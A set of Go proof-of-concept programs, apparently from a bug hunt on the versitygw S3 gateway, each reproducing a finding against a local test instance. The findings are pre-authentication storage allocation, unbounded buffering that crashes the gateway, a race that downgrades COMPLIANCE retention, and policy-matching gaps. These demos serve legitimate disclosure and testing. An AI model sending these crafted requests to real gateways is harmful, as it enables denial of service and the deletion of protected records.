		etag, size = strings.ReplaceAll(string(pm[1]), "&#34;", ""), string(pm[2])
	}
	fmt.Printf("UploadPart  %d byte body, correct SHA256 and Content-MD5, X-Amz-Decoded-Content-Length: 0, ?uploadId&partNumber=1&acl          -> %s (ETag %s); ListParts -> part 1: %s bytes, ETag %s\n",
		len(data), res, res.hdr.Get("ETag"), size, etag)
	if res.status < 400 || etag != md5hex(old) {
		violations++
	}

	// control: the same uploads without the two shapes are stored in full
	g.do("PUT", "/bkt/control", nil, map[string]string{"content-md5": md5b64(data)}, data)
	cg := g.do("GET", "/bkt/control", nil, nil, nil)
	fmt.Printf("control     plain PutObject of the same body -> GET %d, %d bytes\n", cg.status, len(cg.body))

	if violations > 0 {
		fmt.Printf("C06 VIOLATED: %d uploads that declared 0 decoded bytes but delivered %d verified bytes were acknowledged; the key / part was replaced by an empty one (MD5 d41d8cd9...), none of the received bytes were stored\n", violations, len(data))
		return 1
	}
	fmt.Println("C06 holds: the uploads were refused and the key / part kept the previous content")
	return 0
}
