//go:build huntdemo

// C20 finding 2: the posix backend preallocates (fallocate) the temp file of
// an upload to the length the request DECLARES, before a single body byte
// has been read and before the request signature has been checked (the
// signature check of an upload is deferred to the end of the body).
package main

import (
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"syscall"
	"time"
)

const declared = 256 << 20 // bytes the unauthenticated request claims to upload

func freeBytes(dir string) int64 {
	var st syscall.Statfs_t
	if err := syscall.Statfs(dir, &st); err != nil {
		panic(err)
	}
	return int64(st.Bfree) * int64(st.Bsize)
}

// tmpAllocated returns the bytes allocated to the (unnamed or named) temp
// files the gateway - which runs inside this process - holds open below the
// bucket's temp directory.
func tmpAllocated(root string) int64 {
	ents, _ := os.ReadDir("/proc/self/fd")
	var total int64
	for _, e := range ents {
		p := filepath.Join("/proc/self/fd", e.Name())
		target, err := os.Readlink(p)
		if err != nil || !strings.HasPrefix(target, filepath.Join(root, "bkt", ".sgwtmp")) {
			continue
		}
		var st syscall.Stat_t
		if syscall.Stat(p, &st) == nil && st.Mode&syscall.S_IFMT == syscall.S_IFREG {
			total += st.Blocks * 512
		}
	}
	return total
}

func main() {
	g := startGW()
	defer os.RemoveAll(g.base)

	// an existing bucket (created by the legitimate owner)
	r := g.roundTrip(g.signedHead("PUT", "/bkt", "", emptySHA, rootSecret, nil, map[string]string{"Content-Length": "0"}), 5*time.Second)
	if r.err != nil || r.status != 200 {
		fmt.Println("setup failed:", r.status, r.body, r.err)
		os.Exit(2)
	}
	// one object so that the bucket's temp directory exists (O_TMPFILE path)
	r = g.roundTrip(append(g.signedHead("PUT", "/bkt/seed", "", "UNSIGNED-PAYLOAD", rootSecret, nil, map[string]string{"Content-Length": "1"}), 'x'), 5*time.Second)
	if r.err != nil || r.status != 200 {
		fmt.Println("setup failed:", r.status, r.body, r.err)
		os.Exit(2)
	}

	before := freeBytes(g.root)

	// The attacker knows an access key id, but not the secret: the request
	// is signed with a wrong secret. It declares 256 MiB, sends 12 KiB of a
	// 16 KiB body (the http server hands a request to the handlers once the
	// first 8 KiB of the body have arrived) and then just keeps the
	// connection open.
	head := g.signedHead("PUT", "/bkt/victim", "", "UNSIGNED-PAYLOAD", "not-the-secret", nil,
		map[string]string{"Content-Length": "16384", "X-Amz-Decoded-Content-Length": fmt.Sprint(declared)})
	c, err := net.Dial("tcp", g.addr)
	if err != nil {
		panic(err)
	}
	defer c.Close()
	c.Write(head)
	c.Write(make([]byte, 12288)) // 12 KiB of the 16 KiB body

	var taken int64
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) {
		taken = tmpAllocated(g.root)
		if taken >= declared {
			break
		}
		time.Sleep(50 * time.Millisecond)
	}
	fsTaken := before - freeBytes(g.root)
	// still reserved a while later, for as long as the client likes
	time.Sleep(1 * time.Second)
	held := tmpAllocated(g.root)
	alive := g.healthy()

	// finish the body: only now the signature is looked at
	c.Write(make([]byte, 4096))
	rs := readResp(c, 5*time.Second)
	time.Sleep(200 * time.Millisecond)
	after := tmpAllocated(g.root)

	fmt.Printf("declared=%d MiB sent=12 KiB | allocated to the upload's temp file while the request was pending: %d MiB (1 s later: %d MiB; free space of the file system went down by about %d MiB) | final answer: %d %s | allocated after the answer: %d MiB | gateway alive=%v\n",
		declared>>20, taken>>20, held>>20, fsTaken>>20, rs.status, code(rs.body), after>>20, alive)

	if taken >= declared && held >= declared && rs.status == 403 {
		fmt.Printf("VIOLATION: a request with an invalid signature (answered %d %s in the end) made the gateway allocate %d MiB of storage sized by its X-Amz-Decoded-Content-Length header before authentication, and keeps it for as long as it holds the connection\n",
			rs.status, code(rs.body), held>>20)
		os.Exit(1)
	}
	fmt.Println("OK: no storage was allocated by the declared length of an unauthenticated request")
}
