//go:build huntdemo

package main

import (
	"bufio"
	"bytes"
	"crypto/hmac"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"sort"
	"strings"
	"time"

	"github.com/gofiber/fiber/v2"
	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3api"
	"github.com/versity/versitygw/s3api/middlewares"
)

// The gateway is started in-process exactly like cmd/versitygw/main.go
// (runGateway) does: same fiber configuration, s3api.New, posix backend.

const (
	rootAccess = "ROOTACCESSKEY"
	rootSecret = "rootsecretrootsecret"
	region     = "us-east-1"
)

type gw struct {
	addr string
	base string
	root string
}

func startGW() *gw {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c20-demo-")
	if err != nil {
		panic(err)
	}
	root := base + "/root"
	os.MkdirAll(root, 0755)
	be, err := posix.New(root, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	iam := auth.NewIAMServiceSingle(auth.Account{Access: rootAccess, Secret: rootSecret, Role: auth.RoleAdmin})
	app := fiber.New(fiber.Config{
		AppName:               "versitygw",
		ServerHeader:          "VERSITYGW",
		StreamRequestBody:     true,
		DisableKeepalive:      true,
		Network:               fiber.NetworkTCP,
		DisableStartupMessage: true,
	})
	_, err = s3api.New(app, be, middlewares.RootUserConfig{Access: rootAccess, Secret: rootSecret},
		":0", region, iam, nil, nil, nil, nil, s3api.WithQuiet(), s3api.WithHealth("/_health"))
	if err != nil {
		panic(err)
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	go app.Listener(ln)
	return &gw{addr: ln.Addr().String(), base: base, root: root}
}

func hmacSHA(key []byte, s string) []byte {
	h := hmac.New(sha256.New, key)
	h.Write([]byte(s))
	return h.Sum(nil)
}

// signedHead builds a SigV4 (header) signed request head. Only "host",
// "x-amz-date", "x-amz-content-sha256" and the given extra headers are
// signed; path and query must not need escaping.
func (g *gw) signedHead(method, path, query, payloadHash, secret string, extra map[string]string, unsignedHdrs map[string]string) []byte {
	t := time.Now().UTC()
	amzdate := t.Format("20060102T150405Z")
	day := amzdate[:8]
	h := map[string]string{"host": g.addr, "x-amz-date": amzdate, "x-amz-content-sha256": payloadHash}
	for k, v := range extra {
		h[strings.ToLower(k)] = v
	}
	var names []string
	for k := range h {
		names = append(names, k)
	}
	sort.Strings(names)
	var ch strings.Builder
	for _, k := range names {
		ch.WriteString(k + ":" + h[k] + "\n")
	}
	cq := ""
	if query != "" {
		cq = query
		if !strings.Contains(cq, "=") {
			cq += "="
		}
	}
	creq := method + "\n" + path + "\n" + cq + "\n" + ch.String() + "\n" + strings.Join(names, ";") + "\n" + payloadHash
	cs := sha256.Sum256([]byte(creq))
	scope := day + "/" + region + "/s3/aws4_request"
	sts := "AWS4-HMAC-SHA256\n" + amzdate + "\n" + scope + "\n" + hex.EncodeToString(cs[:])
	k := hmacSHA([]byte("AWS4"+secret), day)
	k = hmacSHA(k, region)
	k = hmacSHA(k, "s3")
	k = hmacSHA(k, "aws4_request")
	sig := hex.EncodeToString(hmacSHA(k, sts))
	var b bytes.Buffer
	target := path
	if query != "" {
		target += "?" + query
	}
	fmt.Fprintf(&b, "%s %s HTTP/1.1\r\n", method, target)
	for _, k := range names {
		fmt.Fprintf(&b, "%s: %s\r\n", k, h[k])
	}
	for k, v := range unsignedHdrs {
		fmt.Fprintf(&b, "%s: %s\r\n", k, v)
	}
	fmt.Fprintf(&b, "Authorization: AWS4-HMAC-SHA256 Credential=%s/%s,SignedHeaders=%s,Signature=%s\r\n\r\n", rootAccess, scope, strings.Join(names, ";"), sig)
	return b.Bytes()
}

type resp struct {
	status int
	body   string
	err    error
}

func readResp(c net.Conn, to time.Duration) resp {
	c.SetReadDeadline(time.Now().Add(to))
	hr, err := http.ReadResponse(bufio.NewReader(c), &http.Request{Method: "GET"})
	if err != nil {
		return resp{err: err}
	}
	b, _ := io.ReadAll(hr.Body)
	return resp{status: hr.StatusCode, body: string(b)}
}

func (g *gw) roundTrip(reqBytes []byte, to time.Duration) resp {
	c, err := net.DialTimeout("tcp", g.addr, 2*time.Second)
	if err != nil {
		return resp{err: err}
	}
	defer c.Close()
	c.SetWriteDeadline(time.Now().Add(to))
	c.Write(reqBytes)
	return readResp(c, to)
}

func (g *gw) healthy() bool {
	r := g.roundTrip([]byte("GET /_health HTTP/1.1\r\nHost: x\r\n\r\n"), 3*time.Second)
	return r.err == nil && r.status == 200
}

func code(body string) string {
	i := strings.Index(body, "<Code>")
	j := strings.Index(body, "</Code>")
	if i < 0 || j < i {
		if len(body) > 60 {
			return body[:60]
		}
		return body
	}
	return body[i+6 : j]
}

const emptySHA = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"
