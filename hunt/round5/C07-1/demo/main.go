//go:build huntdemo

// Finding 1 (C07): a recursive listing that runs while a DeleteObject removes
// the last key of some directory answers 200 with NO keys at all, although
// every other key of the bucket is untouched.
//
// The schedule is made deterministic with a wrapper around the metadata
// store: when the listing walk asks for the etag of directory "zz/" (the
// directory object check that precedes reading that directory) the wrapper
// sends DELETE /bkt/zz/only through the gateway and waits for its answer;
// the walk then resumes.
package main

import (
	"fmt"
	"os"
	"sort"
	"sync/atomic"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

type hookMeta struct {
	meta.XattrMeta
	armed *atomic.Bool
	fire  func()
}

func (h hookMeta) RetrieveAttribute(f *os.File, bucket, object, attribute string) ([]byte, error) {
	if bucket == "bkt" && object == "zz/" && attribute == "etag" && h.armed.CompareAndSwap(true, false) {
		h.fire()
	}
	return h.XattrMeta.RetrieveAttribute(f, bucket, object, attribute)
}

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c07-1-")
	if err != nil {
		fmt.Println("mkdtemp:", err)
		os.Exit(2)
	}
	code := run(base)
	os.RemoveAll(base)
	os.Exit(code)
}

func run(base string) int {
	root := base + "/root"
	os.MkdirAll(root, 0755)

	var armed atomic.Bool
	var g *gw
	var delStatus int
	hm := hookMeta{armed: &armed, fire: func() {
		delStatus, _ = g.do("DELETE", "/bkt/zz/only", nil, nil)
	}}
	be, err := posix.New(root, hm, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		fmt.Println("posix.New:", err)
		return 2
	}
	g = startGW(be)

	g.must("PUT", "/bkt", nil, nil)
	stable := []string{"aa/1", "aa/2", "mm/3", "top.txt"}
	for _, k := range stable {
		g.must("PUT", "/bkt/"+k, []byte("data-"+k), nil)
	}
	g.must("PUT", "/bkt/zz/only", []byte("short lived"), nil)

	for _, q := range []string{"?list-type=2", ""} {
		// (re)create the key that the concurrent request deletes
		g.must("PUT", "/bkt/zz/only", []byte("short lived"), nil)
		armed.Store(true)
		st, body := g.do("GET", "/bkt"+q, nil, nil)
		if armed.Load() {
			fmt.Println("the hook did not fire: schedule not exercised")
			return 2
		}
		keys := tags(body, "Key")
		sort.Strings(keys)
		missing := []string{}
		for _, k := range stable {
			i := sort.SearchStrings(keys, k)
			if i >= len(keys) || keys[i] != k {
				missing = append(missing, k)
			}
		}
		if st != 200 || len(missing) != 0 {
			fmt.Printf("VIOLATION: GET /bkt%s during DELETE zz/only (answered %d) -> %d IsTruncated=%v keys=%q; untouched keys %q are missing from a listing that claims to be complete\n",
				q, delStatus, st, tags(body, "IsTruncated"), keys, missing)
			return 1
		}
	}
	fmt.Println("ok: listings concurrent with the delete still contain every untouched key")
	return 0
}
