//go:build huntdemo

package main

// C10 / finding 2
//
// An acknowledged COMPLIANCE retention is replaced by a short GOVERNANCE
// retention, by a request without bypass header and without bypass permission.
//
// posix.PutObjectRetention reads the stored retention, decides ("COMPLIANCE
// can't be overridden", "GOVERNANCE needs bypass", "nothing stored: anything
// goes") and then writes, with nothing tying the write to what was read. Two
// PutObjectRetention requests for the same version that both read "nothing
// stored" are both accepted; the one that writes last wins, whatever its mode
// and date. In either serial order one of the two is refused.
//
// The schedule is made deterministic with a metadata-store wrapper that parks
// the GOVERNANCE request right before its StoreAttribute("object-retention").

import (
	"fmt"
	"os"
	"strings"
	"sync"
	"time"

	"github.com/versity/versitygw/backend/meta"
)

type pausingMeta struct {
	meta.MetadataStorer

	mu      sync.Mutex
	armed   bool
	bucket  string
	object  string
	attr    string
	reached chan struct{}
	resume  chan struct{}
}

func (p *pausingMeta) StoreAttribute(f *os.File, bucket, object, attribute string, value []byte) error {
	p.mu.Lock()
	hit := p.armed && bucket == p.bucket && object == p.object && attribute == p.attr
	if hit {
		p.armed = false
	}
	p.mu.Unlock()
	if hit {
		close(p.reached)
		<-p.resume
	}
	return p.MetadataStorer.StoreAttribute(f, bucket, object, attribute, value)
}

func retentionDoc(mode string, until time.Time) []byte {
	return []byte(fmt.Sprintf(`<Retention xmlns="http://s3.amazonaws.com/doc/2006-03-01/"><Mode>%s</Mode><RetainUntilDate>%s</RetainUntilDate></Retention>`,
		mode, until.UTC().Format(time.RFC3339)))
}

func main() {
	pm := &pausingMeta{reached: make(chan struct{}), resume: make(chan struct{})}
	g, err := startGateway(func(inner meta.MetadataStorer) meta.MetadataStorer {
		pm.MetadataStorer = inner
		return pm
	})
	must(err == nil, "start gateway: %v", err)
	defer g.cleanup()

	const bucket = "lockb"
	const protected = "RECORD-THAT-MUST-BE-KEPT-FOR-A-YEAR"
	compUntil := time.Now().Add(365 * 24 * time.Hour)
	govUntil := time.Now().Add(time.Hour)

	r := g.do("PUT", "/"+bucket, "", map[string]string{"x-amz-bucket-object-lock-enabled": "true"}, nil)
	must(r.status == 200, "create lock bucket: %d %s", r.status, r.body)

	// reference: the same two requests one after the other
	r = g.do("PUT", "/"+bucket+"/ref", "", nil, []byte("x"))
	must(r.status == 200, "put ref: %d", r.status)
	r = g.do("PUT", "/"+bucket+"/ref", "retention", nil, retentionDoc("COMPLIANCE", compUntil))
	must(r.status == 200, "put COMPLIANCE on ref: %d %s", r.status, r.body)
	r = g.do("PUT", "/"+bucket+"/ref", "retention", nil, retentionDoc("GOVERNANCE", govUntil))
	must(r.status != 200, "serial downgrade accepted: %d", r.status)
	fmt.Printf("serial: COMPLIANCE then GOVERNANCE on one version -> second request %d %s\n", r.status, r.code())

	const key = "doc"
	r = g.do("PUT", "/"+bucket+"/"+key, "", nil, []byte(protected))
	must(r.status == 200, "put doc: %d %s", r.status, r.body)
	v1 := r.hdr.Get("x-amz-version-id")

	// T2: GOVERNANCE for one hour; parked between its read (nothing stored)
	// and its write
	pm.mu.Lock()
	pm.armed, pm.bucket, pm.object, pm.attr = true, bucket, key, "object-retention"
	pm.mu.Unlock()
	t2 := make(chan resp, 1)
	go func() {
		t2 <- g.do("PUT", "/"+bucket+"/"+key, "retention", nil, retentionDoc("GOVERNANCE", govUntil))
	}()
	<-pm.reached

	// T1: COMPLIANCE for a year: stored and acknowledged
	r1 := g.do("PUT", "/"+bucket+"/"+key, "retention", nil, retentionDoc("COMPLIANCE", compUntil))
	rg := g.do("GET", "/"+bucket+"/"+key, "retention", nil, nil)
	fmt.Printf("T1: PutObjectRetention COMPLIANCE +1y -> %d; GetObjectRetention -> %d %s\n", r1.status, rg.status, oneLine(rg.body))
	must(r1.status == 200 && strings.Contains(string(rg.body), "COMPLIANCE"), "COMPLIANCE was not stored")

	close(pm.resume)
	r2 := <-t2
	fmt.Printf("T2: PutObjectRetention GOVERNANCE +1h (no bypass header) -> %d %s\n", r2.status, r2.code())

	rg = g.do("GET", "/"+bucket+"/"+key, "retention", nil, nil)
	fmt.Printf("after: GetObjectRetention -> %d %s\n", rg.status, oneLine(rg.body))

	if strings.Contains(string(rg.body), "<Mode>COMPLIANCE</Mode>") {
		fmt.Println("OK: the COMPLIANCE retention is still in place")
		g.cleanup()
		os.Exit(0)
	}

	// consequence: the protected version can now be deleted with the
	// governance bypass
	policy := fmt.Sprintf(`{"Statement":[{"Effect":"Allow","Principal":"*","Action":"s3:BypassGovernanceRetention","Resource":"arn:aws:s3:::%s/*"}]}`, bucket)
	rp := g.do("PUT", "/"+bucket, "policy", nil, []byte(policy))
	rd := g.do("DELETE", "/"+bucket+"/"+key, "versionId="+v1, map[string]string{"x-amz-bypass-governance-retention": "true"}, nil)
	rv := g.do("GET", "/"+bucket+"/"+key, "versionId="+v1, nil, nil)
	fmt.Printf("consequence: PutBucketPolicy(bypass) -> %d; DELETE %s?versionId=v1 with bypass -> %d %s; GET ?versionId=v1 -> %d %s\n",
		rp.status, key, rd.status, rd.code(), rv.status, rv.code())

	fmt.Printf("VIOLATION: PutObjectRetention COMPLIANCE until %s was acknowledged (200) for %s/%s, a concurrent PutObjectRetention GOVERNANCE +1h without bypass was acknowledged too (%d) and replaced it; retention now: %s\n",
		compUntil.UTC().Format(time.RFC3339), bucket, key, r2.status, oneLine(rg.body))
	g.cleanup()
	os.Exit(1)
}

func oneLine(b []byte) string {
	s := strings.ReplaceAll(string(b), "\n", "")
	if i := strings.Index(s, "?>"); i >= 0 {
		s = s[i+2:]
	}
	return s
}
