//go:build huntdemo

// C12 finding 2: the unsigned aws-chunked reader buffers a chunk-size line
// (and the trailer line) without any bound. A malformed stream whose size
// line never ends is not rejected: it is collected in memory until the
// process dies. The request needs no valid signature (authentication is
// deferred to the end of the body).
//
// The gateway (real s3api stack + posix backend) runs in a child process
// whose heap is capped at 1 GiB (RLIMIT_DATA), so that the effect shows up
// after about one GiB instead of after all the RAM of the host.
package main

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

const (
	memCap   = 1 << 30 // data segment (heap) limit of the gateway process
	bodySize = 2 << 30 // announced Content-Length of the malformed upload
)

func main() {
	if len(os.Args) > 1 && os.Args[1] == "server" {
		server(os.Args[2])
		return
	}
	os.Exit(run())
}

// server: the gateway process
func server(dir string) {
	lim := syscall.Rlimit{Cur: memCap, Max: memCap}
	if err := syscall.Setrlimit(syscall.RLIMIT_DATA, &lim); err != nil {
		panic(err)
	}
	be, err := posix.New(dir, meta.XattrMeta{}, posix.PosixOpts{NewDirPerm: 0755})
	if err != nil {
		panic(err)
	}
	fmt.Println("ADDR", startGateway(be))
	select {}
}

func run() int {
	dir, err := os.MkdirTemp("/dev/shm", "hunt-c12-2-")
	if err != nil {
		panic(err)
	}
	defer os.RemoveAll(dir)
	exe, err := os.Executable()
	if err != nil {
		panic(err)
	}
	cmd := exec.Command(exe, "server", dir)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, _ := cmd.StdoutPipe()
	if err := cmd.Start(); err != nil {
		panic(err)
	}
	exited := make(chan error, 1)
	defer cmd.Process.Kill()
	sc := bufio.NewScanner(out)
	addr := ""
	for sc.Scan() {
		if strings.HasPrefix(sc.Text(), "ADDR ") {
			addr = strings.TrimPrefix(sc.Text(), "ADDR ")
			break
		}
	}
	go func() { io.Copy(io.Discard, out); exited <- cmd.Wait() }()
	if addr == "" {
		fmt.Println("setup: gateway did not start:", stderr.String())
		return 2
	}
	time.Sleep(100 * time.Millisecond)

	if st, b, err := do(addr, request{method: "PUT", path: "/bkt", payloadHash: emptySHA}); err != nil || st != 200 {
		fmt.Println("setup: create bucket:", st, string(b), err, stderr.String())
		return 2
	}
	// control: a well formed unsigned aws-chunked upload
	payload := []byte("hello aws-chunked")
	hdr := map[string]string{"X-Amz-Trailer": crc32Name, "Content-Encoding": "aws-chunked", "X-Amz-Decoded-Content-Length": fmt.Sprint(len(payload))}
	st, _, err := do(addr, request{method: "PUT", path: "/bkt/ok", headers: hdr, payloadHash: "STREAMING-UNSIGNED-PAYLOAD-TRAILER", body: unsignedBody(payload, []int{len(payload)})})
	fmt.Printf("control: well formed unsigned aws-chunked PUT -> %d err=%v\n", st, err)
	if st != 200 {
		fmt.Println("setup: control failed; gateway stderr:", stderr.String())
		return 2
	}

	// the malformed upload: a chunk-size line of hex digits that never ends.
	// The Authorization header carries a made up signature of a known
	// access key id: nobody checks it before the body has been read.
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		panic(err)
	}
	defer conn.Close()
	date := time.Now().UTC()
	fmt.Fprintf(conn, "PUT /bkt/victim HTTP/1.1\r\nHost: %s\r\n"+
		"Authorization: AWS4-HMAC-SHA256 Credential=%s/%s/%s/s3/aws4_request, SignedHeaders=host;x-amz-content-sha256;x-amz-date, Signature=%s\r\n"+
		"X-Amz-Date: %s\r\nX-Amz-Content-Sha256: STREAMING-UNSIGNED-PAYLOAD-TRAILER\r\nX-Amz-Trailer: %s\r\n"+
		"X-Amz-Decoded-Content-Length: 1\r\nContent-Encoding: aws-chunked\r\nContent-Length: %d\r\n\r\n",
		addr, access, date.Format("20060102"), region, strings.Repeat("0", 64), date.Format("20060102T150405Z"), crc32Name, bodySize)

	type answer struct {
		status string
		err    error
	}
	ans := make(chan answer, 1)
	go func() {
		br := bufio.NewReader(conn)
		line, err := br.ReadString('\n')
		ans <- answer{strings.TrimSpace(line), err}
	}()

	block := bytes.Repeat([]byte("a"), 1<<20)
	sent := 0
	var werr error
	var got *answer
	t0 := time.Now()
loop:
	for sent < bodySize {
		select {
		case a := <-ans:
			got = &a
			break loop
		default:
		}
		conn.SetWriteDeadline(time.Now().Add(20 * time.Second))
		n, err := conn.Write(block)
		sent += n
		if err != nil {
			werr = err
			break
		}
	}
	if got == nil {
		select {
		case a := <-ans:
			got = &a
		case <-time.After(5 * time.Second):
		}
	}
	fmt.Printf("malformed upload: sent %d MiB of an endless chunk-size line in %v (write err: %v)\n", sent>>20, time.Since(t0).Round(time.Millisecond), werr)
	if got != nil {
		fmt.Printf("answer of the gateway: %q err=%v\n", got.status, got.err)
	}

	select {
	case err := <-exited:
		msg := ""
		for _, l := range strings.Split(stderr.String(), "\n") {
			if strings.Contains(l, "fatal error") || strings.Contains(l, "out of memory") || strings.Contains(l, "cannot allocate") {
				msg = strings.TrimSpace(l)
				break
			}
		}
		fmt.Printf("gateway process died: %v; stderr: %q\n", err, msg)
		fmt.Printf("VIOLATION: a malformed unsigned aws-chunked stream (size line without end, bogus signature) was not rejected: the reader buffered %d MiB of it and the gateway process crashed\n", sent>>20)
		return 1
	case <-time.After(2 * time.Second):
	}
	// still alive: it must have refused the upload and still serve requests
	st, _, err = do(addr, request{method: "GET", path: "/bkt/ok", payloadHash: emptySHA})
	vst, _, _ := do(addr, request{method: "GET", path: "/bkt/victim", payloadHash: emptySHA})
	answered200 := got != nil && strings.Contains(got.status, " 200")
	if err == nil && st == 200 && vst == 404 && !answered200 && sent < bodySize {
		fmt.Printf("OK: the malformed stream was refused after %d MiB and the gateway is alive\n", sent>>20)
		return 0
	}
	fmt.Printf("VIOLATION: the gateway consumed %d MiB of a chunk-size line (answer %v), follow-up GET ok -> %d err=%v, GET victim -> %d\n", sent>>20, got, st, err, vst)
	return 1
}
