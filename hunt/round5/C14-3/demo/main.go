//go:build huntdemo

package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/auth"
)

func main() {
	g := startGateway()
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func msg(body string) string {
	if i := strings.Index(body, "<Message>"); i >= 0 {
		return body[i+9 : strings.Index(body, "</Message>")]
	}
	return body
}

func run(g *gateway) int {
	must(g.iam.CreateAccount(auth.Account{Access: "alice", Secret: "alicesecret", Role: auth.RoleUser}))
	root := func(m, p, q string, b []byte) (int, string) { return g.do(rootAccess, rootSecret, m, p, q, b, nil) }
	alice := func(m, p, q string, b []byte) (int, string) { return g.do("alice", "alicesecret", m, p, q, b, nil) }
	if st, b := g.do(rootAccess, rootSecret, "PUT", "/bkt", "", nil, map[string]string{"x-amz-bucket-object-lock-enabled": "true"}); st != 200 {
		fmt.Println("create bucket:", st, b)
		return 2
	}

	// 1. the evaluator knows the action: GetObjectLockConfiguration is decided
	//    under the name s3:GetBucketObjectLockConfiguration
	wild := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:GetBucketO*","Resource":"arn:aws:s3:::bkt"}]}`
	if st, b := root("PUT", "/bkt", "policy", []byte(wild)); st != 200 {
		fmt.Println("put wildcard policy:", st, b)
		return 2
	}
	w1, _ := alice("GET", "/bkt", "object-lock", nil)
	other := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:GetBucketOwnershipControls","Resource":"arn:aws:s3:::bkt"}]}`
	if st, b := root("PUT", "/bkt", "policy", []byte(other)); st != 200 {
		fmt.Println("put other policy:", st, b)
		return 2
	}
	w2, _ := alice("GET", "/bkt", "object-lock", nil)
	fmt.Printf("alice GET ?object-lock: under Allow s3:GetBucketO* = %d, under Allow s3:GetBucketOwnershipControls = %d\n", w1, w2)

	// 2. the exact name of that action cannot be written in a policy
	exact := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:GetBucketObjectLockConfiguration","Resource":"arn:aws:s3:::bkt"}]}`
	st1, b1 := root("PUT", "/bkt", "policy", []byte(exact))
	e1, _ := alice("GET", "/bkt", "object-lock", nil)
	deny := `{"Statement":[{"Effect":"Allow","Principal":"alice","Action":"s3:*","Resource":["arn:aws:s3:::bkt","arn:aws:s3:::bkt/*"]},
	 {"Effect":"Deny","Principal":"alice","Action":"s3:GetBucketObjectLockConfiguration","Resource":"arn:aws:s3:::bkt"}]}`
	st2, b2 := root("PUT", "/bkt", "policy", []byte(deny))
	fmt.Printf("PutBucketPolicy(Allow s3:GetBucketObjectLockConfiguration) = %d %q ; alice GET ?object-lock = %d\n", st1, msg(b1), e1)
	fmt.Printf("PutBucketPolicy(Allow s3:* + Deny s3:GetBucketObjectLockConfiguration) = %d %q\n", st2, msg(b2))

	if w1 != 200 || w2 != 403 {
		fmt.Println("unexpected baseline")
		return 2
	}
	if st1 != 200 || e1 != 200 || st2 != 200 {
		fmt.Println("VIOLATION: s3:GetBucketObjectLockConfiguration is the action the gateway evaluates for GetObjectLockConfiguration, but a policy naming it exactly is refused as an unknown action: it can be neither allowed nor denied by exact name")
		return 1
	}
	fmt.Println("property holds")
	return 0
}
