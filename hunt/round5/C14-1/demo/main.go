//go:build huntdemo

package main

import (
	"fmt"
	"os"

	"github.com/versity/versitygw/auth"
)

func main() {
	g := startGateway()
	code := run(g)
	g.cleanup()
	os.Exit(code)
}

func run(g *gateway) int {
	must(g.iam.CreateAccount(auth.Account{Access: "alice", Secret: "alicesecret", Role: auth.RoleUser}))
	root := func(m, p, q string, b []byte) (int, string) { return g.do(rootAccess, rootSecret, m, p, q, b, nil) }
	alice := func(m, p, q string, b []byte) (int, string) { return g.do("alice", "alicesecret", m, p, q, b, nil) }

	if st, b := root("PUT", "/bkt", "", nil); st != 200 {
		fmt.Println("create bucket:", st, b)
		return 2
	}
	// "report-é" : the last character is one character, two bytes in UTF-8
	for _, k := range []string{"/bkt/report-1", "/bkt/report-%C3%A9", "/bkt/public"} {
		if st, b := root("PUT", k, "", []byte("secret data")); st != 200 {
			fmt.Println("put object:", st, b)
			return 2
		}
	}
	policy := `{"Statement":[
	 {"Effect":"Allow","Principal":"alice","Action":"s3:GetObject","Resource":"arn:aws:s3:::bkt/*"},
	 {"Effect":"Deny","Principal":"alice","Action":"s3:GetObject","Resource":"arn:aws:s3:::bkt/report-?"}]}`
	if st, b := root("PUT", "/bkt", "policy", []byte(policy)); st != 200 {
		fmt.Println("put policy:", st, b)
		return 2
	}
	s1, _ := alice("GET", "/bkt/public", "", nil)
	s2, _ := alice("GET", "/bkt/report-1", "", nil)
	s3, body := alice("GET", "/bkt/report-%C3%A9", "", nil)
	fmt.Printf("GET public=%d (want 200)  GET report-1=%d (want 403)  GET report-é=%d (want 403)\n", s1, s2, s3)
	if s1 != 200 || s2 != 403 {
		fmt.Println("unexpected baseline")
		return 2
	}
	if s3 != 403 {
		fmt.Printf("VIOLATION: Deny on bkt/report-? ('?' = exactly one character) does not match key \"report-é\": alice read %q\n", body)
		return 1
	}
	fmt.Println("property holds")
	return 0
}
