//go:build huntdemo

// Finding 2 (C07): a listing with delimiter "/" reports a common prefix for
// every directory that exists below the prefix, without checking that a
// single listable key lies beneath it. Directories without keys come into
// being through the API:
//
//	A. default configuration: a PutObject that fails after the parent
//	   directories have been made (here: a user metadata name that the
//	   xattr store refuses, 500 InternalError) leaves them behind;
//	B. versioning: a DeleteObject turns the only key of a directory into a
//	   delete marker, which is a file that the listing skips.
//
// In both cases ListObjects(V1/V2, delimiter=/) returns a CommonPrefix under
// which ListObjects(prefix=that prefix) finds nothing.
package main

import (
	"fmt"
	"os"
	"strings"

	"github.com/versity/versitygw/backend/meta"
	"github.com/versity/versitygw/backend/posix"
)

func main() {
	base, err := os.MkdirTemp("/dev/shm", "hunt-c07-2-")
	if err != nil {
		fmt.Println("mkdtemp:", err)
		os.Exit(2)
	}
	code := run(base)
	os.RemoveAll(base)
	os.Exit(code)
}

// expected common prefixes of the keys for delimiter "/" and no prefix
